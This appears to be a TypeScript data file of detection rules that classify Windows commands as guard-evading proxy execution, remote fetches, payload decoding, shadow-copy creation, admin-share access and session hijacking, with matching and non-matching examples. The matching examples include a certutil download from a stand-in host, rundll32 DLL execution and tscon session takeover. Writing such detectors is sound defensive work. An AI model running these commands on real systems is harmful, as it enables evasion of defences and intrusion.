/** What programs of a system are made to do for others. */
import { readRows } from '../row.ts'

export const windowsRows = readRows(`
run.proxy | execute | code/escape | hidden | medium | Makes a program of the system run something else, a way past guards: {target}.
+ rundll32 C:\\Temp\\a.dll,Start
+ installutil /U C:\\Temp\\a.dll
- rundll32 shell32.dll
fetch.proxy | fetch send | host/outside host/raw host/drop host/unknown host/private host/code host/installer | hidden | high | Makes a program of the system reach {target}, a way past guards.
+ certutil -urlcache -f http://get.example/a.exe a.exe
- certutil -dump a.cer
write.hidden | write | path/later path/outside path/file path/temporary path/regenerable path/workspace path/unknown | hidden | medium | Hides or unpacks {target} past guards.
+ certutil -decode a.txt a.exe
- attrib -h a.txt
create.shadow | create | resource/backup | hidden | medium | Makes {target}, through which files that are locked can be read.
+ vssadmin create shadow /for=C:
- aws rds create-db-snapshot --db-instance-identifier a --db-snapshot-identifier b
connect.share | connect | path/system | | medium | Opens {target}, the disk of another machine.
+ net use \\\\host\\C$
connect.session | connect | process/login | | medium | Takes over {target}.
+ tscon 2
`)
